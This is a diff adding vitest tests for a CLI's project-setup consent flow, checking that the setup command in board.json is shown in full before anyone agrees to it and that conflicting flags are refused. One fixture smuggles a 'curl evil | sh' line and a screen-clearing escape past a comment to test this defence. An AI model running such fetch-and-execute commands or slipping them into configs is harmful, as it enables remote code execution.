@@ -2,6 +2,7 @@ import { writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { afterAll, beforeAll, expect, test } from 'vitest'
 import { commandLine, type CommandLine } from '../support/commands/commandLine.ts'
+import { onTerminal } from '../support/terminals/onTerminal.ts'
 import { startBoard, type TestBoard } from '../support/servers/testBoard.ts'
 
 let server: TestBoard
@@ -73,4 +74,40 @@ test('board.json is shown before anybody agrees to it, and agreed to by --yes al
   writeFileSync(join(folder, 'board.json'), '{')
   const broken = await cli.board(['projects', 'worktree', 'web', '--agree', '--yes'])
   expect([broken.code, broken.stderr]).toEqual([1, expect.stringContaining('it is not JSON')])
+})
+
+test('what board.json runs is shown as it runs: a second line is none of the comment before it, nor another setting', async () => {
+  writeFileSync(
+    join(folder, 'board.json'),
+    JSON.stringify({ setup: 'npm ci # all\ncurl evil | sh\r\npreview: safe\u001b[2J' }),
+  )
+  const shown = 'setup: npm ci # all\n    curl evil | sh\n    preview: safe\u241b[2J\n'
+  const { stderr } = await cli.board(['projects', 'worktree', 'web', '--agree'])
+  expect(stderr).toContain(shown)
+  expect(await cli.board(['projects', 'worktree', 'web', '--agree', '--yes'])).toMatchObject({
+    code: 0,
+    stderr: expect.stringContaining(shown),
+  })
+  await cli.ok(['projects', 'worktree', 'web', '--withdraw'])
+  // --quiet does not hide what is asked about.
+  const asked = await onTerminal(['projects', 'worktree', 'web', '--agree', '--quiet'], {
+    cwd: folder,
+    env: cli.env,
+    answers: [['Agree?', 'n\r']],
+  })
+  expect(asked).toMatchObject({ code: 1, text: expect.stringContaining(shown) })
+})
+
+test('one record is printed, and what contradicts itself is refused', async () => {
+  writeFileSync(join(folder, 'board.json'), '{ "setup": "npm ci" }')
+  expect(await cli.json(['projects', 'worktree', 'web', '--ports', '1', '--agree', '--yes'])).toMatchObject({
+    ports: 1,
+  })
+  for (const args of [
+    ['worktree', 'web', '--agree', '--withdraw'],
+    ['worktree', 'web', '--copy', 'none', '--copy', '.env'],
+    ['sandbox', 'web', '--allow', 'none', '--allow', 'example.org'],
+  ])
+    expect((await cli.board(['projects', ...args])).code, args.join(' ')).toBe(2)
+  expect((await project()).sandbox.hosts).toEqual([])
 })
